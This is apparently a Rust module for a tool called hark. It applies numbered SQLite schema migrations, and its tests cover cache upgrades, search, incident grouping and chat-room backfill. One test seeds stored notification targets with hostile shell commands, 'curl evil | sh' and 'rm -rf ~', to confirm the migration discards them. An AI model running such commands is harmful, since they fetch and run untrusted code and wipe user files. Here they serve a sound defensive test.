//! Numbered schema migrations, tracked by `PRAGMA user_version`.
//!
//! Migration N brings the schema from version N-1 to N inside one transaction, so a crash
//! mid-way leaves the previous version intact.

use std::path::Path;

use rusqlite::Connection;

use super::{classify, Error, Result};

/// The migrations in order; the index + 1 is the version each produces.
pub const MIGRATIONS: &[&str] = &[
    include_str!("migrations/001_core.sql"),
    include_str!("migrations/002_search_tags_escalations.sql"),
    include_str!("migrations/003_outbox_drafts.sql"),
    include_str!("migrations/004_rules_escalation.sql"),
    include_str!("migrations/008_item_counts.sql"),
    include_str!("migrations/009_thread_context.sql"),
    include_str!("migrations/010_perf.sql"),
    include_str!("migrations/011_notification_steps.sql"),
    include_str!("migrations/012_outbox_leases.sql"),
    include_str!("migrations/013_item_truth.sql"),
    include_str!("migrations/014_nothing_missed.sql"),
    include_str!("migrations/015_item_language.sql"),
    include_str!("migrations/016_incidents.sql"),
    include_str!("migrations/017_snooze_people.sql"),
    include_str!("migrations/018_search_stemming.sql"),
    include_str!("migrations/019_team_assign.sql"),
    include_str!("migrations/020_chat_rooms.sql"),
    include_str!("migrations/021_author_trigram.sql"),
    include_str!("migrations/022_team_sync.sql"),
    include_str!("migrations/023_team_link.sql"),
    include_str!("migrations/024_item_room.sql"),
    include_str!("migrations/025_team_join.sql"),
    include_str!("migrations/026_report_negative_items.sql"),
    include_str!("migrations/027_search_prefix.sql"),
    include_str!("migrations/028_team_parked.sql"),
    include_str!("migrations/029_report_backlog.sql"),
    include_str!("migrations/030_undo_batches.sql"),
    include_str!("migrations/031_done_by_time.sql"),
];

/// The schema version this hark writes.
pub fn latest_version() -> i64 {
    MIGRATIONS.len() as i64
}

/// The version an existing cache file is at when this hark would upgrade it (`None` for
/// a new or empty file, an up-to-date one, or one that cannot be read: opening it says
/// why). Read before the writer opens the file, so start-up can say that a one-time
/// upgrade is under way rather than show nothing while a large cache is rewritten.
pub fn behind(path: &Path) -> Option<i64> {
    let flags =
        rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY | rusqlite::OpenFlags::SQLITE_OPEN_NO_MUTEX;
    let conn = Connection::open_with_flags(path, flags).ok()?;
    let found: i64 = conn
        .pragma_query_value(None, "user_version", |row| row.get(0))
        .ok()?;
    (found > 0 && found < latest_version()).then_some(found)
}

/// Applies every migration newer than the file's version.
pub fn migrate(conn: &Connection, path: &Path) -> Result<()> {
    migrate_to(conn, path, latest_version())
}

/// Applies migrations up to `target` (tests use this to build old schemas).
pub fn migrate_to(conn: &Connection, path: &Path, target: i64) -> Result<()> {
    let found: i64 = conn
        .pragma_query_value(None, "user_version", |row| row.get(0))
        .map_err(|e| classify(e, path))?;
    if found > latest_version() {
        return Err(Error::TooNew {
            path: path.to_path_buf(),
            found,
            known: latest_version(),
        });
    }
    for (index, sql) in MIGRATIONS.iter().enumerate() {
        let version = index as i64 + 1;
        if version <= found || version > target {
            continue;
        }
        let tx = conn.unchecked_transaction()?;
        tx.execute_batch(sql).map_err(|e| classify(e, path))?;
        tx.pragma_update(None, "user_version", version)?;
        tx.commit()?;
        tracing::info!(version, "migrated the cache");
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn version(conn: &Connection) -> i64 {
        conn.pragma_query_value(None, "user_version", |r| r.get(0))
            .unwrap()
    }

    #[test]
    fn only_an_existing_cache_at_an_older_version_is_behind() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("hark.db");
        assert_eq!(behind(&path), None, "no file yet");
        {
            let conn = Connection::open(&path).unwrap();
            migrate_to(&conn, &path, 3).unwrap();
        }
        assert_eq!(behind(&path), Some(3));
        drop(crate::store::open_rw(&path).unwrap());
        assert_eq!(behind(&path), None, "upgraded");
    }

    #[test]
    fn an_empty_file_is_brought_to_the_latest_version() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("hark.db");
        let conn = crate::store::open_rw(&path).unwrap();
        assert_eq!(version(&conn), latest_version());
        // Running again changes nothing.
        migrate(&conn, &path).unwrap();
        assert_eq!(version(&conn), latest_version());
    }

    #[test]
    fn a_version_1_cache_keeps_its_items_and_they_become_searchable() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("hark.db");
        {
            let conn = Connection::open(&path).unwrap();
            migrate_to(&conn, &path, 1).unwrap();
            assert_eq!(version(&conn), 1);
            conn.execute_batch(
                "INSERT INTO accounts (id, name, platform) VALUES (1, 'a', 'chirp');
                 INSERT INTO authors (id, platform, external_id, handle, first_seen_at)
                     VALUES (1, 'chirp', 'u1', '@ana', 0);
                 INSERT INTO items (account_id, external_id, kind, author_id, body, created_at, fetched_at)
                     VALUES (1, 'x1', 'mention', 1, 'the espresso machine is broken', 10, 10);",
            )
            .unwrap();
        }
        let conn = crate::store::open_rw(&path).unwrap();
        assert_eq!(version(&conn), latest_version());
        let found: i64 = conn
            .query_row(
                "SELECT count(*) FROM items_fts WHERE items_fts MATCH 'espresso'",
                [],
                |r| r.get(0),
            )
            .unwrap();
        assert_eq!(found, 1);
        let by_author: i64 = conn
            .query_row(
                "SELECT count(*) FROM items_fts WHERE items_fts MATCH 'author:ana'",
                [],
                |r| r.get(0),
            )
            .unwrap();
        assert_eq!(by_author, 1);
    }

    #[test]
    fn a_cache_from_a_newer_hark_is_refused_untouched() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("hark.db");
        let conn = Connection::open(&path).unwrap();
        conn.pragma_update(None, "user_version", 99).unwrap();
        let err = migrate(&conn, &path).unwrap_err();
        assert!(matches!(err, Error::TooNew { found: 99, .. }), "{err}");
    }

    /// The migration turns escalations into incidents: same rule within 24 hours → one.
    #[test]
    fn existing_escalations_become_incidents_by_rule_within_the_window() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("hark.db");
        let conn = rusqlite::Connection::open(&path).unwrap();
        let before = MIGRATIONS
            .iter()
            .position(|m| m.contains("CREATE TABLE incidents"))
            .unwrap() as i64;
        migrate_to(&conn, &path, before).unwrap();
        conn.execute_batch(
        "INSERT INTO accounts (id, name, platform, handle) VALUES (1, 'a', 'chirp', '@b');
         INSERT INTO authors (id, account_id, external_id, handle, display_name) VALUES (1, 1, 'u', '@u', 'U');",
    )
    .ok();
        for (id, source, reason, at, resolved) in [
            (1, "rule:health", "health claim", 1000, None),
            (2, "rule:health", "health claim", 1000 + 5 * 3600, None),
            (
                3,
                "rule:big",
                "big account",
                1000 + 6 * 3600,
                Some(1000 + 7 * 3600),
            ),
            (4, "rule:health", "health claim", 1000 + 30 * 3600, None),
            (5, "user", "press", 1000, None),
            (6, "user", "press", 1000 + 3600, None),
        ] {
            conn.execute(
            "INSERT INTO escalations (id, item_id, severity, reason, source, opened_at, resolved_at, outcome)
             VALUES (?1, NULL, 'high', ?2, ?3, ?4, ?5, CASE WHEN ?5 IS NULL THEN NULL ELSE 'done' END)",
            rusqlite::params![id, reason, source, at, resolved],
        )
        .unwrap();
        }
        migrate(&conn, &path).unwrap();
        let groups: Vec<(i64, i64)> = crate::store::peek::escalations(&conn)
            .iter()
            .map(|e| (e.id, e.incident_id.unwrap()))
            .collect();
        assert_eq!(groups, vec![(1, 1), (2, 1), (3, 3), (4, 4), (5, 5), (6, 5)]);
        let resolved = crate::store::incidents::get(&conn, 3)
            .unwrap()
            .unwrap()
            .resolved_at;
        assert_eq!(resolved, Some(1000 + 7 * 3600));
    }

    #[test]
    fn the_migration_turns_stored_commands_into_step_names() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("hark.db");
        {
            let conn = rusqlite::Connection::open(&path).unwrap();
            // The schema just before the migration that turned targets into steps.
            let before = MIGRATIONS
                .iter()
                .position(|sql| sql.contains("RENAME COLUMN target TO step"))
                .unwrap() as i64;
            migrate_to(&conn, &path, before).unwrap();
            conn.execute_batch(
            "INSERT INTO escalations (id, severity, reason, source, opened_at)
                 VALUES (1, 'high', 'press', 'user', 0);
             INSERT INTO notifications (escalation_id, channel, target, payload, next_attempt_at, created_at)
                 VALUES (1, 'command', 'curl evil | sh', '{}', 0, 0),
                        (1, 'webhook', 'https://hooks.example/T0KEN', '{}', 0, 0),
                        (1, 'fax', 'rm -rf ~', '{}', 0, 0);",
        )
        .unwrap();
        }
        let conn = crate::store::open_rw(&path).unwrap();
        let rows = crate::store::peek::notifications(&conn);
        let steps: Vec<_> = rows.iter().map(|n| n.step.as_str()).collect();
        assert_eq!(steps, ["high/command", "high/webhook", "high/unknown"]);
        let dump: String = rows
            .iter()
            .map(|n| {
                format!(
                    "{}{}{}",
                    n.step,
                    n.payload,
                    n.last_error.clone().unwrap_or_default()
                )
            })
            .collect();
        assert!(!dump.contains("curl") && !dump.contains("T0KEN") && !dump.contains("rm -rf"));
    }

    #[test]
    fn chat_items_stored_before_the_room_column_get_their_rooms_from_their_raw_records() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("hark.db");
        {
            let conn = Connection::open(&path).unwrap();
            let before = MIGRATIONS
                .iter()
                .position(|sql| sql.contains("ADD COLUMN room TEXT"))
                .unwrap() as i64;
            migrate_to(&conn, &path, before).unwrap();
            // The raw records as each connector kept them: Matrix adds `room_id` to the
            // event, Discord's message has `channel_id`, Slack's item adds `channel`.
            conn.execute_batch(
                r#"INSERT INTO accounts (id, name, platform) VALUES
                     (1, 'mx', 'matrix'), (2, 'dc', 'discord'), (3, 'sl', 'slack'),
                     (4, 'ma', 'mastodon');
                 INSERT INTO authors (id, platform, external_id, handle, first_seen_at)
                     VALUES (1, 'x', 'u1', '@ana', 0);
                 INSERT INTO items (account_id, external_id, kind, author_id, body, created_at,
                         fetched_at, raw_json) VALUES
                     (1, '$a', 'mention', 1, 'help', 1, 1, '{"room_id": "!help:ex.org"}'),
                     (1, '$b', 'mention', 1, 'help', 2, 2, 'not json'),
                     (1, '$c', 'mention', 1, 'help', 3, 3, NULL),
                     (2, '11', 'mention', 1, 'help', 4, 4, '{"channel_id": "41771983423143937"}'),
                     (3, 'C1/1.0', 'mention', 1, 'help', 5, 5, '{"channel": "C012AB3CD"}'),
                     (4, '9', 'mention', 1, 'help', 6, 6, '{"room_id": "!not-chat"}');"#,
            )
            .unwrap();
        }
        let conn = crate::store::open_rw(&path).unwrap();
        let mut rooms = conn
            .prepare("SELECT external_id, room FROM items ORDER BY created_at")
            .unwrap();
        let rooms: Vec<(String, Option<String>)> = rooms
            .query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
            .unwrap()
            .map(|r| r.unwrap())
            .collect();
        let some = |s: &str| Some(s.to_string());
        assert_eq!(
            rooms,
            [
                ("$a".to_string(), some("!help:ex.org")),
                ("$b".to_string(), None),
                ("$c".to_string(), None),
                ("11".to_string(), some("41771983423143937")),
                ("C1/1.0".to_string(), some("C012AB3CD")),
                ("9".to_string(), None),
            ]
        );
    }
}
